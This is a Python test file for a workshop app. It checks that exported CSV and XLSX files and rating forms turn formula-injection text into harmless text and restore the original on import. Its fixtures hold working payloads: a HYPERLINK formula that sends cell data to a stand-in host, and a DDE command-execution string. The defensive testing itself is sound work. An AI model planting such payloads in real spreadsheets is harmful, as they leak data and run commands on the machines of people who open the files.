"""Formula injection (OWASP "CSV injection"): no text from a workshop ever becomes a live formula.

A participant plants ``=HYPERLINK(…)`` through a returned hand-out or on the
command line; every CSV, XLSX and form the app writes must show it as text.
"""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile

import openpyxl
import pytest

from digitalmotor_desktop.cli import main
from digitalmotor_desktop.core import rating_form_layout as layout
from digitalmotor_desktop.export.cells import FORMULA_TRIGGERS, plain_text, safe_text
from digitalmotor_desktop.ops.import_ratings import import_ratings
from digitalmotor_desktop.ops.merge import write_handout
from digitalmotor_desktop.store import ratings as store
from digitalmotor_desktop.store.document import open_document
from gap_data import csv_rows, insert_ratings
from merge_data import merge

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'
PLANTED = [LINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _no_formula_in(path):
    """Every sheet of the workbook: no formula cell, and no text a spreadsheet would evaluate."""
    book = openpyxl.load_workbook(path)
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (sheet.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as archive:  # what Excel itself reads: no <f> element anywhere
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    return texts


@pytest.fixture
def planted(fyrbodal_file, tmp_path):
    """A workshop whose names, labels, notes and title all begin with a formula trigger.

    They come from a hand-out: the participant renamed a capability, a group and an area to
    formulas and the lead merged the file back, as the attack goes.
    """
    rows = csv_rows()
    with open_document(fyrbodal_file) as document:
        insert_ratings(document, rows)
    handout = tmp_path / "returned.dmw"
    write_handout(fyrbodal_file, handout, "Kommun 01")
    connection = sqlite3.connect(handout)
    stamp = "999999999999999.00000.participant"
    caps = [row[0] for row in connection.execute("SELECT id FROM capability ORDER BY position, id LIMIT 6")]
    for cap, text in zip(caps, PLANTED):
        connection.execute("UPDATE capability SET name = ?, description = ?, hlc = ? WHERE id = ?",
                           [text, text, stamp, cap])
    connection.execute("UPDATE capability_group SET name = ?, hlc = ?", ["+" + "grupp", stamp])
    connection.execute("UPDATE area SET name = ?, hlc = ?", ["-område", stamp])
    connection.execute("UPDATE workshop SET title = ?, target_level = 1, hlc = ?", [LINK, stamp])
    connection.execute("UPDATE scale_level SET description = ?, hlc = ?", ["@nivå", stamp])
    connection.commit()
    connection.close()
    merged = merge(tmp_path / "merged.dmw", fyrbodal_file, handout)
    with open_document(merged) as document:
        names = {c: n for c, n in document.db.execute("SELECT id, name FROM capability")}
        assert names[caps[0]] == LINK  # the attack arrived: the workshop keeps the text as it is
        document.db.execute("INSERT INTO decision (capability_id, note, hlc) VALUES (?, ?, ?)",
                            [caps[0], "=cmd|' /C calc'!A0", stamp])
        document.db.conn.commit()
    return merged


def test_the_results_workbook_has_no_formula_cell(planted, tmp_path):
    out = tmp_path / "result.xlsx"
    assert main(["export", str(planted), "--format", "xlsx", "--output", str(out), "--lang", "en"]) == 0
    assert _no_formula_in(out) > 100
    joint = openpyxl.load_workbook(out)["Joint result"]
    shown = {row[2] for row in joint.iter_rows(min_row=2, values_only=True)}
    assert "'" + LINK in shown and "'+1+2" in shown and "'\t=1+1" in shown  # shown as text, not lost
    decisions = list(openpyxl.load_workbook(out)["Decisions"].iter_rows(min_row=2, values_only=True))
    assert decisions[0][-1] == "'=cmd|' /C calc'!A0"


def test_the_results_csv_neutralises_every_text_cell(planted, tmp_path):
    out = tmp_path / "result.csv"
    assert main(["export", str(planted), "--format", "csv", "--output", str(out)]) == 0
    table = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    header = table[0]
    for row in table[1:]:
        for column, value in zip(header, row):
            if column in ("area", "group", "capability", "status"):
                assert not value.startswith(FORMULA_TRIGGERS), (column, value)
    assert {"'" + LINK, "'-2+3", "'@SUM(A1:A9)", "'\r=1+1"} <= {row[2] for row in table[1:]}
    gaps = [row[header.index("gap")] for row in table[1:] if row[header.index("gap")]]
    assert any(gap.startswith("-") for gap in gaps)  # figures stay numbers, negative ones too


def test_a_rating_form_with_a_formula_organisation_writes_text_and_reads_back_the_same_name(planted, tmp_path):
    form = tmp_path / "form.xlsx"
    assert main(["rating-form", str(planted), "--output", str(form),
                 "--organisation", '=HYPERLINK("http://x","click")']) == 0
    assert _no_formula_in(form) > 55
    book = openpyxl.load_workbook(form)
    sheet = book[book[layout.META_SHEET][layout.META_SHEET_NAME].value]
    assert sheet[f"C{layout.ORGANISATION_ROW}"].value == '\'=HYPERLINK("http://x","click")'
    header_row = book[layout.META_SHEET][layout.META_HEADER_ROW].value
    sheet[f"E{header_row + 1}"] = "2"
    book.save(form)
    with open_document(planted) as document:
        import_ratings(document, form)
        names = [o.name for o in store.organisations(document)]
    assert '=HYPERLINK("http://x","click")' in names  # kept as plain text, without the apostrophe


def test_neutralising_is_undone_exactly_on_reading_back():
    for text in [*PLANTED, "'quoted", "'", "Åmål", "", "-"]:
        assert plain_text(safe_text(text)) == text
